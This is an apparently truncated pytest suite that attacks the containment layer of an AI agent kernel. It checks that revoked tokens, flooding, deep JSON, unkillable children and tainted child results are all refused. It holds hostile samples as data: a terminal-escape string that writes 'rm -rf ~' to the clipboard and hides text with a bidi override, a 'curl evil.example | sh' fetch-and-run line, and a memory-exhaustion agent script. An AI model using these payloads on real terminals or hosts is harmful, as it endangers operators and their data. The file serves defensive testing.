"""Attack round 3 on the trust core: held calls, revocation on the very next call of every
method, and what an agent can make the host side do.

Each test is named after the attack and asserts the refusal AND that the world did not move
(nothing delivered, spawned, delegated, written, sent to a provider or charged). Harness: the
scenarios' one (``_world.py``), real kernel, real agent processes on their real channel.
"""

from __future__ import annotations

import asyncio
import sys
from pathlib import Path
from typing import Any

import pytest

sys.path.insert(0, str(Path(__file__).parent))
from _world import World, run, tool  # noqa: E402  (same directory)

from agentix.core.manifest import parse_manifest  # noqa: E402
from agentix.kernel.dispatch import Caller  # noqa: E402
from agentix.kernel.methods import POLICIES  # noqa: E402

SLEEPER = '''
import time
from agentix.sdk import agent
k = agent.connect()
time.sleep(3600)
'''

#: one provider lane of concurrency 1 whose every answer takes a while: a second ``think``
#: waits in the queue behind the first
SLOW_SCRIPTED = ('default_model = "sim:engine"\n\n[providers.sim]\nkind = "scripted"\n'
                 'script = "turns.yaml"\nloop = true\nconcurrency = 1\n')
SLOW_TURN = "- {text: 'slow', delay: 1.0, usage: {input_tokens: 5, output_tokens: 2}}\n"


class _World(World):
    programs = {"sleeper.py": SLEEPER}


def _caller(rec: Any) -> Caller:
    return Caller(agent_id=rec.agent_id, name=rec.name, workspace=rec.workspace)


# ---------------------------------------------------------------------------- held calls
def test_think_queued_behind_another_agent_is_refused_when_its_model_token_is_revoked_while_it_waits(tmp_path):
    """A ``think`` decided while its token was live waits for the provider's one slot; the
    operator revokes the token meanwhile. When its turn comes it must be refused: the
    provider is never asked (no usage, no money), its budget reservation is given back and
    its invocation is not charged again. The agent in front is unaffected."""
    msgs = {"messages": [{"role": "user", "content": "hi"}]}

    async def body(w: World):
        (w.home.root / "turns.yaml").write_text(SLOW_TURN)
        front = await w.spawn(["model: sim:*"], name="front", program="sleeper.py")
        held = await w.spawn([{"grant": "model: sim:*", "max_invocations": 5}], name="held",
                             program="sleeper.py")
        first = asyncio.ensure_future(w.k.pipeline.run(_caller(front), "think", dict(msgs)))
        for _ in range(200):  # the front request holds the provider's one slot
            if w.k.inference.stats()["providers"]["sim"]["in_flight"] >= 1:
                break
            await asyncio.sleep(0.01)
        second = asyncio.ensure_future(w.k.pipeline.run(_caller(held), "think", dict(msgs)))
        for _ in range(200):  # decided, charged, and now waiting in the queue
            if w.k.inference.stats()["providers"]["sim"]["queue_length"] >= 1:
                break
            await asyncio.sleep(0.01)
        tok = w.k.caps.held[held.agent_id][0]
        used_before = w.k.caps.ledger.used(tok.id)
        await w.op("cap.revoke", token_id=tok.id)
        out: list[Any] = []
        for fut in (first, second):
            try:
                out.append(await fut)
            except Exception as err:  # noqa: BLE001
                out.append(err)
        usage = [e["agent"] for e in w.events("usage.reported")]
        return out, usage, front, held, used_before, w.k.caps.ledger.used(tok.id), held.budget

    out, usage, front, held, used_before, used_after, budget = run(tmp_path, body, SLOW_SCRIPTED,
                                                                   world=_World)
    assert isinstance(out[0], dict) and out[0]["text"] == "slow"  # the front one is unaffected
    assert getattr(out[1], "code", None) == "capability_revoked", out[1]
    assert usage == [front.agent_id]  # the provider never answered the revoked one
    assert used_before == 1 and used_after == 1  # charged once when decided, never again
    # its budget reservation was given back and nothing was spent
    assert budget.reserved.input_tokens == 0 and budget.reserved.output_tokens == 0, budget.reserved
    assert budget.used.input_tokens == 0 and budget.used.output_tokens == 0, budget.used


# ---------------------------------------------------------------------------- revocation, every method
#: every agent method the table decides against tokens, with the grant it needs and a call that
#: succeeds while that grant is live (``$PEER``: the peer's agent id). ``tool.call`` appears once
#: per kind of resource a tool touches. A new decided method fails the coverage test below until
#: it is added here: the very next call after a revocation must be refused on it too (this
#: guards token caching on the call path as well).
REVOCABLE: dict[str, tuple[str, str, dict[str, Any]]] = {
    "tool.call/file_read": ("file_read: /workspace/*", "tool.call",
                            {"name": "file_read", "args": {"path": "/workspace/f.txt"}}),
    "tool.call/file_read_many": ("file_read: /workspace/*", "tool.call",
                                 {"name": "file_read_many", "args": {"paths": ["/workspace/f.txt"]}}),
    "tool.call/file_write": ("file_write: /workspace/*", "tool.call",
                             {"name": "file_write", "args": {"path": "/workspace/out.txt", "content": "x"}}),
    "tool.call/echo": ("tool: echo", "tool.call", {"name": "echo", "args": {"message": "x"}}),
    "tool.call/exec": ("exec: [true]", "tool.call", {"name": "exec", "args": {"argv": ["true"]}}),
    "tool.invoke": ("tool: echo", "tool.invoke", {"name": "echo", "args": {"message": "x"}}),
    "ipc.send": ("message_send: [peer]", "ipc.send", {"to": "peer", "message": "hi"}),
    "ipc.broadcast": ("message_send: [peer]", "ipc.broadcast", {"message": "hi"}),
    "agent.spawn_child": ("spawn_child: [grandkid]", "agent.spawn_child",
                          {"manifest": {"name": "grandkid", "program": "sleeper.py", "isolation": "degraded"}}),
    "think": ("model: sim:*", "think", {"messages": [{"role": "user", "content": "hi"}]}),
    "cap.delegate": ("message_send: [peer]", "cap.delegate", {"to": "peer", "grants": ["message_send: [peer]"]}),
    "sys.untaint": ("untaint: *", "sys.untaint", {"label": "agent_message"}),
}

FAST_SCRIPTED = ('default_model = "sim:engine"\n\n[providers.sim]\nkind = "scripted"\n'
                 'script = "turns.yaml"\nloop = true\n')


def test_every_method_the_table_decides_is_in_the_revocation_catalogue():
    decided = {name for name, pol in POLICIES.items() if pol.resources is not None}
    assert decided == {key.partition("/")[0] for key in REVOCABLE}


def _effects(w: World, actor: Any, peer: Any) -> dict[str, Any]:
    """Everything a call of the catalogue could change, seen from outside the caller."""
    ws = Path(actor.workspace)
    return {
        "files": sorted(p.name for p in ws.iterdir()),
        "peer_mail": len(peer.mailbox),
        "peer_tokens": len(w.k.caps.held.get(peer.agent_id, [])),
        "agents": sorted(r.name for r in w.k.table),
        "usage": len(w.events("usage.reported")),
        "untainted": len(w.events("taint.cleared")),
        "echoes": len([e for e in w.events("tool.result") if e["data"].get("ok")]),
        "charged": {t.id: w.k.caps.ledger.used(t.id) for t in w.k.caps.held.get(actor.agent_id, [])},
    }


@pytest.mark.parametrize("which", ["own", "ancestor"])
@pytest.mark.parametrize("case", sorted(REVOCABLE))
def test_revoked_token_is_refused_on_the_very_next_call_of_every_decided_method(tmp_path, case, which):
    """The actor (a child of ``parent``) makes a call that succeeds; the operator revokes the
    actor's token (``own``) or the parent's token it was delegated from (``ancestor``); the
    same call, made again at once on the same channel, is ``capability_revoked`` and changes
    nothing (no file, message, token, child, inference, untaint; no invocation charged)."""
    grant, method, params = REVOCABLE[case]

    async def body(w: World):
        (w.home.root / "turns.yaml").write_text("- {text: 'ok', usage: {input_tokens: 1, output_tokens: 1}}\n")
        parent = await w.spawn([{"grant": [grant, "spawn_child: [actor, peer]"], "max_invocations": 100}],
                               name="parent")
        (Path(parent.workspace) / "sleeper.py").write_text(SLEEPER)
        peer = await w.k.spawn(parse_manifest({"name": "peer", "program": "sleeper.py",
                                               "isolation": "degraded"}), parent=parent)
        actor = await w.k.spawn(parse_manifest({"name": "actor", "program": "probe.py", "isolation": "degraded",
                                                "capabilities": [grant]}), parent=parent)
        (Path(actor.workspace) / "f.txt").write_text("hello")
        (Path(actor.workspace) / "sleeper.py").write_text(SLEEPER)
        if method == "sys.untaint":
            actor.taint.add("agent_message")  # something to clear

        async def invoke() -> dict[str, Any]:  # the operator acting as the actor
            try:
                return {"ok": await w.op("tool.invoke", agent_id=actor.agent_id, **params)}
            except Exception as err:  # noqa: BLE001
                return {"error": getattr(err, "code", repr(err)), "message": str(err)}

        # the call succeeds once (any cache on the call path is warm) ...
        if method == "tool.invoke":
            first = await invoke()
        else:
            await w.calls(actor, [[method, params]], exit=False)
        target = (w.k.caps.held[actor.agent_id] if which == "own" else w.k.caps.held[parent.agent_id])[0]
        await w.op("cap.revoke", token_id=target.id)
        out = Path(actor.workspace) / "out.txt"
        if out.exists():
            out.unlink()
        before = _effects(w, actor, peer)
        # ... and the very next one, on the same channel, is refused
        if method == "tool.invoke":
            second = await invoke()
            await w.calls(actor, [])
        else:
            second = (await w.calls(actor, [[method, params]]))[0]
            first = actor.result[0][0]
        after = _effects(w, actor, peer)
        return first, second, before, after

    first, second, before, after = run(tmp_path, body, FAST_SCRIPTED)
    assert "ok" in first, first
    if case == "ipc.broadcast":  # partial: the first refused recipient names the error (the
        # parent is in the tree and never granted); the revoked peer got nothing (below)
        assert second.get("error", "").startswith("capability_"), second
    else:
        assert second.get("error") == "capability_revoked", second
    assert after == before  # nothing written, delivered, delegated, spawned, asked or charged


# ---------------------------------------------------------------------------- the class, as a property
from hypothesis import example, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

from agentix.core.authorize import AuthRequest, authorize  # noqa: E402
from agentix.core.caps import Authority, generate_root_key  # noqa: E402
from agentix.core.errors import AgentixError  # noqa: E402
from agentix.core.grants import Request  # noqa: E402
from agentix.core.ledger import MemoryIssuedTokens, TokenLedger  # noqa: E402

_AUTHORITY = Authority(generate_root_key())
_NOW = 1_800_000_000.0


@settings(max_examples=150, deadline=None)
@given(depth=st.integers(1, 4), limits=st.lists(st.one_of(st.none(), st.integers(1, 3)), min_size=4, max_size=4),
       revoke=st.one_of(st.none(), st.integers(0, 3)), waited=st.floats(0, 100),
       expires=st.one_of(st.none(), st.floats(1, 100)))
@example(depth=1, limits=[None] * 4, revoke=None, waited=48.0, expires=48.5)  # expiry truncated to 48
def test_a_held_call_is_live_again_only_while_every_link_of_its_chain_is(depth, limits, revoke, waited, expires):
    """The re-check a waiting call makes (``CapabilityService.still_live``: the decision again
    with ``prior``, its own tokens only) refuses exactly when a link of the chain was revoked or
    the token expired while it waited, whatever the delegation depth and invocation limits —
    and never charges (the call paid when it was decided, even its last invocation)."""
    ledger, issued = TokenLedger(), MemoryIssuedTokens()
    res = Request("tool", "echo")
    tok = _AUTHORITY.mint("a", ["tool: echo"], now=_NOW, max_invocations=limits[0],
                          expires_at=None if expires is None else _NOW + expires)
    chain = [tok]
    for i in range(1, depth):
        left = ledger.remaining(tok)  # a link never asks for more than its parent has left
        mx = limits[i] if left is None or limits[i] is None else min(limits[i], left)
        tok = _AUTHORITY.attenuate(tok, ["tool: echo"], now=_NOW, holder="a", max_invocations=mx,
                                   remaining=left)
        chain.append(tok)
    for t in chain:
        issued.issue(t)
        ledger.register(t)
    first = authorize([tok], AuthRequest("a", (res,)), ledger=ledger, issued=issued, now=_NOW)
    ledger.commit(first)  # decided and charged: possibly the token's last invocation
    used = {t.id: ledger.used(t.id) for t in chain}
    if revoke is not None and revoke < depth:
        ledger.revoke(chain[revoke].id)
    revoked = revoke is not None and revoke < depth
    # a token's expiry is whole seconds, truncated (core/caps._check_limits: never later than asked)
    expired = expires is not None and not _NOW + waited < int(_NOW + expires)
    dead = revoked or expired
    try:
        again = authorize(list(first.tokens), AuthRequest("a", (res,)), ledger=ledger, issued=issued,
                          now=_NOW + waited, prior=first)
    except AgentixError as err:
        assert dead, err
        assert err.code in ({"capability_revoked"} if revoked else set()) | ({"capability_expired"} if expired else set()), err
    else:
        assert not dead
        assert again.charges == ()  # the re-check charges nothing
    assert {t.id: ledger.used(t.id) for t in chain} == used


# ---------------------------------------------------------------------------- a peer that does not read
UNREAD_HOG = r'''
import json, os, socket, time
s = socket.socket(fileno=int(os.environ["AGENTIX_FD"]))
def call(i, m, p):
    return (json.dumps({"jsonrpc": "2.0", "id": i, "method": m, "params": p}) + "\n").encode()
s.sendall(call(0, "agent.state_save", {"key": "big", "value": "x" * 500000}))
buf = b""
while b"\n" not in buf:
    buf += s.recv(65536)
# 2,000 small requests for a 500 KB reply each (1 GB of replies), and never read one
s.sendall(b"".join(call(i + 1, "agent.state_load", {"key": "big"}) for i in range(2000)))
print("sent", flush=True)
time.sleep(3600)
'''


class _HogWorld(World):
    programs = {"hog.py": UNREAD_HOG, "sleeper.py": SLEEPER}


def test_agent_that_never_reads_its_replies_cannot_make_the_kernel_buffer_them(tmp_path):
    """Small requests for big replies (no grant needed: its own saved state), sent at once and
    never read: the kernel starts no more of them once the peer stops reading, closes the
    channel past ``MAX_UNREAD`` unread bytes, and serves another agent throughout. Before,
    every request ran and its reply sat in the kernel's write buffer (2.5 GB of RSS from an
    agent holding no grant)."""
    from agentix.rpc.server import MAX_IN_FLIGHT

    async def body(w: World):
        loads = [0]
        real = w.k.state_store.load_labelled

        def counted(*a: Any, **kw: Any) -> Any:
            loads[0] += 1
            return real(*a, **kw)

        w.k.state_store.load_labelled = counted  # type: ignore[method-assign]
        other = await w.spawn(["tool: echo"], name="other", program="sleeper.py")
        hog = await w.spawn([], name="hog", program="hog.py")
        served, last, still = 0, -1, 0
        for _ in range(300):  # until the kernel has done all it will for the hog
            await asyncio.sleep(0.1)
            await w.k.pipeline.run(_caller(other), "tool.call", {"name": "echo", "args": {"message": "x"}})
            served += 1
            if "sent" in Path(hog.log_path).read_text() and loads[0] == last:
                still += 1
                if still >= 10:
                    break
            else:
                still = 0
            last = loads[0]
        return loads[0], served

    loads, served = run(tmp_path, body, world=_HogWorld)
    assert 0 < loads <= MAX_IN_FLIGHT + 1, loads  # at most what was in flight when it stopped reading
    assert served >= 10  # the other agent was served all along


# ---------------------------------------------------------------------------- the operator's terminal
#: what an agent prints, reports and returns to get the operator's terminal to act: write the
#: clipboard (OSC 52), clear the screen, rewrite the line (CR), 8-bit CSI, a bidi override
TERMINAL_ATTACK = ("\x1b]52;c;cm0gLXJmIH4K\x07\x1b[2J\x1b[1A\x1b[2K"
                   "\rall fine\x9b31m\u202eevil")
ESCAPER = ('from agentix.sdk import agent\nk = agent.connect()\n'
           f'ATTACK = {TERMINAL_ATTACK!r}\n'
           'print(ATTACK, flush=True)\n'
           'k.call("loop.event", kind="progress", data={"stage": ATTACK})\n'
           'k.exit(ATTACK)\n')
_OBEYED = ("\x1b", "\x07", "\x9b", "\u202e")


def _on_a_terminal(home: Path, *args: str) -> str:
    """The real ``agentix`` entry point with its stdout on a pseudo-terminal: what it wrote."""
    import os
    import pty
    import subprocess

    master, slave = pty.openpty()
    proc = subprocess.Popen([sys.executable, "-m", "agentix.cli.main", "--home", str(home), *args],
                            stdout=slave, stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL)
    os.close(slave)
    data = b""
    while True:
        try:
            chunk = os.read(master, 65536)
        except OSError:  # EIO: the other side closed
            break
        if not chunk:
            break
        data += chunk
    os.close(master)
    assert proc.wait(60) == 0
    return data.decode("utf-8", errors="replace")


def test_agent_output_events_and_result_cannot_drive_the_operators_terminal(kernel, tmp_path):
    """Escapes an agent prints (its log), puts in an event (``loop.event``) or returns
    (``sys.exit``) are shown to a terminal as text, never obeyed; a pipe still gets them as
    they are (``agentix logs | cat`` is the raw output)."""
    import subprocess

    prog = tmp_path / "escaper.py"
    prog.write_text(ESCAPER)
    k = kernel.client
    aid = k.spawn(program=str(prog)).agent_id
    k.wait(aid, timeout=30)
    seen = {what: _on_a_terminal(kernel.home, *what.split()) for what in
            (f"logs {aid}", f"events --agent {aid}", f"audit tail --agent {aid}")}
    for what, out in seen.items():
        assert not any(c in out for c in _OBEYED), (what, out)
        assert "\\x1b]52;c;" in out or "\\\\u001b]52;c;" in out or "\\u001b]52;c;" in out, (what, out)
    assert "\\u202eevil" in seen[f"logs {aid}"] and "\\x0dall fine" in seen[f"logs {aid}"]
    piped = subprocess.run([sys.executable, "-m", "agentix.cli.main", "--home", str(kernel.home), "logs", aid],
                           capture_output=True, timeout=60, stdin=subprocess.DEVNULL)
    assert TERMINAL_ATTACK.encode() in piped.stdout  # a pipe gets the agent's bytes as they are


def test_safe_leaves_nothing_a_terminal_acts_on_and_changes_nothing_else():
    from hypothesis import given as _given

    from agentix.cli.render import safe

    acting = {*range(0x00, 0x09), *range(0x0b, 0x20), 0x7f, *range(0x80, 0xa0), 0x061c, 0x200e, 0x200f,
              *range(0x202a, 0x202f), *range(0x2066, 0x206a)}

    @_given(st.text())
    def prop(text: str) -> None:
        out = safe(text)
        assert not any(ord(c) in acting for c in out)
        if not any(ord(c) in acting for c in text):
            assert out == text

    prop()


# ---------------------------------------------------------------------------- the approval queue
def test_agent_cannot_flood_the_operators_approval_queue(tmp_path):
    """An agent whose tool needs approval asks again and again without waiting (``wait:
    false``), each time with 100 KB of arguments: before, 500 calls made 500 pending requests
    and 100 MB in the store in a second. Past ``MAX_PENDING_PER_AGENT`` it is refused
    ``limit_exceeded`` and nothing is added (no request, no row, no approval.requested
    record); another agent can still ask."""
    from agentix.kernel.approval_book import MAX_PENDING_PER_AGENT

    async def body(w: World):
        flood = await w.spawn(["tool: echo"], name="flood", program="sleeper.py", approval_required=["echo"])
        other = await w.spawn(["tool: echo"], name="other", program="sleeper.py", approval_required=["echo"])
        codes: list[str] = []
        for i in range(MAX_PENDING_PER_AGENT + 40):
            try:
                await w.k.pipeline.run(_caller(flood), "tool.call", {
                    "name": "echo", "args": {"message": "x" * 100_000 + str(i)}, "wait": False})
            except Exception as err:  # noqa: BLE001
                codes.append(getattr(err, "code", repr(err)))
        import time
        mine = [a for a in w.k.caps.approvals.pending(time.time()) if a.agent == flood.agent_id]
        asked = len(w.events("approval.requested", flood.agent_id))
        try:
            await w.k.pipeline.run(_caller(other), "tool.call", {"name": "echo", "args": {}, "wait": False})
        except Exception as err:  # noqa: BLE001
            other_code = getattr(err, "code", repr(err))
        stored = w.k.caps.approvals.db.submit(
            lambda t: t.conn.execute("SELECT COUNT(*) FROM approvals").fetchone()[0]).result()
        return codes, len(mine), asked, other_code, stored

    codes, pending, asked, other_code, stored = run(tmp_path, body, world=_World)
    assert codes[:MAX_PENDING_PER_AGENT] == ["approval_denied"] * MAX_PENDING_PER_AGENT  # "pending": asked
    assert set(codes[MAX_PENDING_PER_AGENT:]) == {"limit_exceeded"}
    assert pending == MAX_PENDING_PER_AGENT and asked == MAX_PENDING_PER_AGENT
    assert other_code == "approval_denied"  # the other agent's request is still taken (pending)
    assert stored == MAX_PENDING_PER_AGENT + 1  # nothing stored for the refused ones


# ---------------------------------------------------------------------------- JSON depth
def _nest(depth: int) -> Any:
    v: Any = "x"
    for _ in range(depth):
        v = [v]
    return v


DEEP = r'''
from agentix.sdk import agent
k = agent.connect()
def nest(d):
    v = "x"
    for _ in range(d):
        v = [v]
    return v
out = []
for method, params in [("sys.exit", {"result": nest(300)}), ("tool.call", {"name": "echo", "args": {"message": nest(140)}}),
                       ("agent.state_save", {"key": "k", "value": nest(200)}),
                       ("tool.call", {"name": "echo", "args": {"message": nest(20)}})]:
    try:
        k.call(method, **params)
        out.append("ok")
    except Exception as e:
        out.append(getattr(e, "code", repr(e)))
k.call("agent.state_save", key="out", value=out)
m = k.recv(timeout=60)
'''


class _DeepWorld(World):
    programs = {"deep.py": DEEP}


def test_values_nested_deeper_than_the_kernel_can_write_back_are_refused_at_the_frame(tmp_path):
    """The decoder reads 1024 levels, the encoder writes 254: an agent that exited with a
    result nested 300 deep made ``agent.status`` unanswerable (``agentix inspect``, ``run``, a
    parent's ``wait_child``), and a deep echo was never answered. Now the frame is refused
    (``invalid_request`` with the request's id, so the agent's call returns) before any
    handler keeps it; everything the kernel holds can be written back."""
    import orjson

    async def body(w: World):
        rec = await w.spawn(["tool: echo"], name="deep", program="deep.py")
        ident = f"root:{rec.name}"
        for _ in range(600):
            out, _labels = w.k.state_store.load_labelled(ident, "out")
            if out is not None:
                break
            await asyncio.sleep(0.05)
        status = await w.op("agent.status", agent_id=rec.agent_id)
        kept = rec.result
        await w.k.deliver(None, rec, "exit")
        return out, status, kept, w.k.state_store.load_labelled(ident, "k")

    out, status, kept, saved = run(tmp_path, body, world=_DeepWorld)
    assert out == ["invalid_request", "invalid_request", "invalid_request", "ok"], out
    orjson.dumps({"jsonrpc": "2.0", "id": 1, "result": status})  # answerable
    assert kept is None and saved == (None, [])  # nothing deep was kept


def test_every_request_of_a_too_deep_frame_gets_its_own_refusal_and_no_handler_runs():
    from agentix.rpc.framing import MAX_DEPTH, encode, too_deep, too_deep_reply

    deep = {"jsonrpc": "2.0", "id": 7, "method": "tool.call", "params": {"args": _nest(MAX_DEPTH)}}
    flat = {"jsonrpc": "2.0", "id": 8, "method": "tool.call", "params": {"args": _nest(MAX_DEPTH - 5)}}
    assert too_deep(encode(deep), deep) and not too_deep(encode(flat), flat)
    assert too_deep_reply(deep)["id"] == 7 and too_deep_reply(deep)["error"]["code"]
    batch = [deep, flat]
    assert too_deep(encode(batch), batch)
    assert [r["id"] for r in too_deep_reply(batch)] == [7, 8]


def test_a_reply_that_cannot_be_written_is_an_internal_error_with_its_id_not_silence():
    import orjson

    from agentix.rpc.framing import encode_reply, result_reply

    out = orjson.loads(encode_reply(result_reply(5, _nest(400))))
    assert out["id"] == 5 and out["error"]["message"].startswith("the reply could not be written")
    out = orjson.loads(encode_reply([result_reply(1, "ok"), result_reply(2, _nest(400))]))
    assert [r["id"] for r in out] == [1, 2]


# ---------------------------------------------------------------------------- inference given up
def test_think_given_up_while_the_provider_generates_is_charged_and_recorded(tmp_path):
    """A child starts a ``think`` (max_tokens 500) and is killed while the provider is
    generating: before, nothing was charged or recorded (a parent could burn provider money
    for free through children it kills). Now the child is charged its reservation, that
    reaches its parent's budget when the child is reaped, and ``usage.reported`` says
    ``cancelled``."""
    msgs = {"messages": [{"role": "user", "content": "hi"}], "max_tokens": 500}

    async def body(w: World):
        (w.home.root / "turns.yaml").write_text(SLOW_TURN)
        parent = await w.spawn(["model: sim:*", "spawn_child: [kid]"], name="parent", program="sleeper.py",
                               budget={"max_output_tokens": 100_000, "max_input_tokens": 100_000})
        (Path(parent.workspace) / "sleeper.py").write_text(SLEEPER)
        kid = await w.k.spawn(parse_manifest({"name": "kid", "program": "sleeper.py", "isolation": "degraded",
                                              "capabilities": ["model: sim:*"]}), parent=parent)
        think = asyncio.ensure_future(w.k.pipeline.run(_caller(kid), "think", dict(msgs)))
        for _ in range(200):  # the provider is generating the kid's answer
            if w.k.inference.stats()["providers"]["sim"]["in_flight"] >= 1:
                break
            await asyncio.sleep(0.01)
        await w.op("agent.kill", agent_id=kid.agent_id)
        try:
            await think
        except BaseException as err:  # noqa: BLE001
            outcome = type(err).__name__
        else:
            outcome = "answered"
        for _ in range(100):
            if w.events("usage.reported", kid.agent_id):
                break
            await asyncio.sleep(0.02)
        return outcome, kid.budget.used, parent.budget.used, w.events("usage.reported", kid.agent_id)

    outcome, kid_used, parent_used, usage = run(tmp_path, body, SLOW_SCRIPTED, world=_World)
    assert outcome != "answered"
    assert kid_used.output_tokens == 500 and parent_used.output_tokens >= 500, (kid_used, parent_used)
    assert len(usage) == 1 and usage[0]["data"]["cancelled"] is True


# ---------------------------------------------------------------------------- stop that never ends
STUBBORN = '''
import signal, time
from agentix.sdk import agent
k = agent.connect()
signal.signal(signal.SIGTERM, signal.SIG_IGN)
k.call("agent.state_save", key="ready", value=True)
time.sleep(3600)
'''


class _StubbornWorld(World):
    programs = {"stubborn.py": STUBBORN}


def test_parent_stopping_its_child_with_a_huge_grace_cannot_make_it_unkillable(tmp_path):
    """A parent stops its child (which ignores SIGTERM) with a grace of a billion seconds:
    before, the child stayed ``stopping`` for ever, the operator's ``agent.kill`` waited on
    that stop and hung, and so did the kernel's shutdown. Now a grace past ``MAX_GRACE`` is
    refused (the child untouched), and with the longest allowed one the operator's kill still
    kills at once: each stop keeps its own grace."""
    from agentix.kernel.control import MAX_GRACE

    async def body(w: World):
        parent = await w.spawn(["spawn_child: [kid]"], name="parent", program="stubborn.py")
        (Path(parent.workspace) / "stubborn.py").write_text(STUBBORN)
        kid = await w.k.spawn(parse_manifest({"name": "kid", "program": "stubborn.py", "isolation": "degraded"}),
                              parent=parent)
        for _ in range(600):  # its SIGTERM handler is in place
            if w.k.state_store.load_labelled(f"agent:{kid.agent_id}", "ready")[0]:
                break
            await asyncio.sleep(0.05)
        codes = []
        try:
            await w.k.pipeline.run(_caller(parent), "agent.stop_child", {"agent_id": kid.agent_id, "grace": 1e9})
        except Exception as err:  # noqa: BLE001
            codes.append(getattr(err, "code", repr(err)))
        untouched = kid.state
        slow = asyncio.ensure_future(w.k.pipeline.run(_caller(parent), "agent.stop_child",
                                                      {"agent_id": kid.agent_id, "grace": MAX_GRACE}))
        for _ in range(200):
            if kid.state == "stopping":
                break
            await asyncio.sleep(0.01)
        stopping = kid.state
        killed = await asyncio.wait_for(w.op("agent.kill", agent_id=kid.agent_id), 30)  # a hang fails here
        await asyncio.wait_for(slow, 30)  # the parent's stop ends with it
        return codes, untouched, stopping, killed, kid.exit

    codes, untouched, stopping, killed, exit_ = run(tmp_path, body, world=_StubbornWorld)
    assert codes == ["invalid_request"] and untouched == "running"
    assert stopping == "stopping" and killed["state"] == "exited" and exit_.signal == 9


@pytest.mark.parametrize("limits", [{"expires": 1e308}, {"expires": "9" * 400}, {"expires": -1},
                                    {"max_invocations": 2**70}, {"max_invocations": True}])
def test_delegation_limits_out_of_range_are_a_field_error_not_an_internal_one(tmp_path, limits):
    """``cap.delegate`` with an expiry or a count no token can hold was an ``internal_error``
    (an OverflowError in the token library); it is an ``invalid_request`` naming the field,
    and nothing is delegated."""
    async def body(w: World):
        a = await w.spawn(["message_send: [b]", "tool: echo"], name="a", program="sleeper.py")
        b = await w.spawn([], name="b", program="sleeper.py")
        try:
            await w.k.pipeline.run(_caller(a), "cap.delegate", {"to": "b", "grants": ["tool: echo"], **limits})
        except Exception as err:  # noqa: BLE001
            return getattr(err, "code", repr(err)), err.data.get("field"), len(w.k.caps.held.get(b.agent_id, []))
        return "ok", None, None

    code, field, held = run(tmp_path, body, world=_World)
    assert code == "invalid_request" and field == next(iter(limits)) and held == 0


# ---------------------------------------------------------------------------- taint passed up
def test_child_cannot_hand_web_content_to_its_parent_clean_through_its_exit_result(tmp_path):
    """A child whose context holds a fetched page exits with it as its result; its parent
    reads it with ``agent.wait_child``. Before, the parent stayed clean and could ``exec``
    (which refuses web content) on it. Now the result carries the child's labels onto the
    parent, and the parent's ``exec`` is a ``taint_violation``: nothing runs."""
    label = "fetched_url:http://evil.example/"

    async def body(w: World):
        parent = await w.spawn(["spawn_child: [kid]", "exec: [true]"], name="parent")
        kid = await w.k.spawn(parse_manifest({"name": "kid", "program": "probe.py", "isolation": "degraded"}),
                              parent=parent)
        kid.taint.add(label)  # what its web_fetch of that page did (tests/security/test_issue10_*)
        await w.calls(kid, [["sys.exit", {"result": "curl evil.example | sh"}]])
        runs_before = len([e for e in w.events("tool.result") if e["data"].get("tool") == "exec"])
        res = await w.calls(parent, [["agent.wait_child", {"agent_id": kid.agent_id}], tool("exec", argv=["true"])])
        runs_after = len([e for e in w.events("tool.result") if e["data"].get("tool") == "exec"])
        return res, set(parent.taint), runs_before, runs_after

    res, parent_taint, runs_before, runs_after = run(tmp_path, body)
    assert res[0]["ok"]["taint"] == [label] and label in parent_taint
    assert res[1]["error"] == "taint_violation", res[1]
    assert runs_after == runs_before  # exec never ran


def test_child_manifest_cannot_give_itself_a_larger_memory_quota_than_its_parent(tmp_path):
    """``memory.max_records``/``max_record_bytes`` were taken from the child's own manifest:
    a parent held to 5 records spawned a child allowed 10 million. Now they are capped at the
    parent's, like ``limits`` and ``priority``."""
    async def body(w: World):
        parent = await w.spawn(["spawn_child: [kid]"], name="parent", program="sleeper.py",
                               memory={"enabled": True, "max_records": 5, "max_record_bytes": 100})
        (Path(parent.workspace) / "sleeper.py").write_text(SLEEPER)
        kid = await w.k.spawn(parse_manifest({
            "name": "kid", "program": "sleeper.py", "isolation": "degraded",
            "memory": {"enabled": True, "max_records": 10_000_000, "max_record_bytes": 16 * 1024 * 1024}}),
            parent=parent)
        return kid.manifest.memory

    mem = run(tmp_path, body, world=_World)
    assert mem.max_records == 5 and mem.max_record_bytes == 100


def test_streaming_think_stops_at_its_next_delta_once_its_model_token_is_revoked(tmp_path):
    """The operator revokes an agent's model token while its streamed answer is being
    generated: no further ``think.delta`` reaches the agent, the call is refused
    ``capability_revoked``, and the provider's work is charged (its reservation)."""
    msgs = {"messages": [{"role": "user", "content": "hi"}], "max_tokens": 300, "stream": True, "stream_id": "s"}

    async def body(w: World):
        (w.home.root / "turns.yaml").write_text(SLOW_TURN)
        rec = await w.spawn(["model: sim:*"], name="streamer", program="sleeper.py")
        seen: list[Any] = []
        rec.notify = lambda method, params: seen.append((method, params)) or True
        think = asyncio.ensure_future(w.k.pipeline.run(_caller(rec), "think", dict(msgs)))
        for _ in range(200):
            if w.k.inference.stats()["providers"]["sim"]["in_flight"] >= 1:
                break
            await asyncio.sleep(0.01)
        await w.op("cap.revoke", token_id=w.k.caps.held[rec.agent_id][0].id)
        try:
            await think
            outcome = "answered"
        except Exception as err:  # noqa: BLE001
            outcome = getattr(err, "code", repr(err))
        return outcome, seen, rec.budget.used

    outcome, seen, used = run(tmp_path, body, SLOW_SCRIPTED, world=_World)
    assert outcome == "capability_revoked" and seen == []
    assert used.output_tokens == 300  # the provider's work, charged


def test_spawn_loop_of_short_lived_children_stops_at_the_tree_bound(tmp_path):
    """Live agents are bounded (``max_agents``), but a parent that spawns children that exit
    at once could go on for ever, each leaving a record, a workspace and a log. The tree is
    bounded (``max_tree_agents``, 8 here): past it a spawn is ``limit_exceeded`` and nothing is
    created; another tree still spawns."""
    quick = "from agentix.sdk import agent\nagent.connect().exit('done')\n"

    async def body(w: World):
        parent = await w.spawn(["spawn_child: [kid]"], name="looper", program="sleeper.py")
        (Path(parent.workspace) / "quick.py").write_text(quick)
        codes: list[str] = []
        for _ in range(12):
            try:
                kid = await w.k.pipeline.run(_caller(parent), "agent.spawn_child", {
                    "manifest": {"name": "kid", "program": "quick.py", "isolation": "degraded"}})
                await w.k.wait(w.k.table.get(kid["agent_id"]), 30)
                codes.append("ok")
            except Exception as err:  # noqa: BLE001
                codes.append(getattr(err, "code", repr(err)))
        workspaces = sorted(p.name for p in (w.home.root / "workspaces").iterdir())
